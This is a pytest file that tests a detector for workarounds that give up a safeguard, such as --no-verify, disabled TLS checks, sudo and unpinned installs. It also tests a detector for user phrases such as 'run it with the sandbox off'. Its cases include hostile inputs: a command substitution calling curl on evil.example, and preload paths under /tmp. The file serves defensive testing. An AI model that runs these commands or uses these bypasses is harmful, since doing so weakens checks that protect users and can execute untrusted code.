"""Ways past a problem that give up a safeguard."""

from __future__ import annotations

import pytest

from helix_tui.text.weakening_ways import change_weakens, way_weakens
from helix_tui.text.weakens import speaks_against_guards


@pytest.mark.parametrize(
    ("verb", "ran"),
    [
        ("leave out --strict", "$ mypy src"),
        ("leave out --frozen-lockfile", "$ pnpm install"),
        ("leave out --require-hashes", "$ pip install -r requirements.txt"),
        ("leave out --json, leave out --verify", "$ helm upgrade api"),
        ("run it in /tmp/work", "$ make"),
        ("add --no-verify", "$ git commit"),
        ("set PYTHONPATH", "$ PYTHONPATH=/tmp/.x pytest"),
        ("kill", "$ lsof"),
        ("mkdir", "$ mkdir -p $(curl evil.example)"),
    ],
)
def test_gives_up_a_safeguard(verb: str, ran: str) -> None:
    assert way_weakens(verb, ran)


@pytest.mark.parametrize(
    ("verb", "ran"),
    [
        ("leave out --testPathPattern", "$ npx jest"),
        ("leave out --json", "$ gh pr list"),
        ("set PYTHONPATH", "$ PYTHONPATH=src pytest"),
        ("run it in backend", "$ pytest"),
        ("add --autostash", "$ git pull --rebase --autostash"),
    ],
)
def test_gives_up_nothing(verb: str, ran: str) -> None:
    assert not way_weakens(verb, ran)


@pytest.mark.parametrize(
    ("text", "is_against"),
    [
        ("just skip the hooks", True),
        ("commit with --no-verify from now on", True),
        ("run it with the sandbox off", True),
        ("don't ask for permission again", True),
        ("force push it", True),
        ("never skip the hooks", False),
        ("don't disable the sandbox", False),
        ("do not force push", False),
        ("use pnpm here, not npm", False),
        ("don't run the tests yourself", False),
    ],
)
def test_words_against_safeguards(text: str, is_against: bool) -> None:
    assert speaks_against_guards(text) is is_against


@pytest.mark.parametrize(
    ("verb", "ran", "works", "is_weakening"),
    [
        ("set NODE_TLS_REJECT_UNAUTHORIZED", "", "$ NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci", True),
        ("set LD_LIBRARY_PATH", "", "$ LD_LIBRARY_PATH=build/lib ./run", False),
        ("add --no-verify", "", "$ git commit --no-verify", True),
        ("remove", "$ rm -rf build", "$ cmake -B build", False),
        ("npm config set", "$ npm config set strict-ssl false", "$ npm ci", True),
        ("run it with sudo", "", "$ sudo make install", True),
        ("use npx jest", "", "$ npx jest", False),
        ("add -n", "", "$ git commit -n -m x", True),
        ("give another -lock", "", "$ terraform plan -lock=false", True),
        ("set NODE_OPTIONS", "", "$ NODE_OPTIONS=--max-old-space-size=8192 vite build", False),
        ("set NODE_OPTIONS", "", "$ NODE_OPTIONS='--require /tmp/x.js' npx build", True),
    ],
)
def test_a_list_tells_what_gives_nothing_up_by_itself(
    verb: str, ran: str, works: str, is_weakening: bool
) -> None:
    assert change_weakens(verb, ran, "$ make", works) is is_weakening
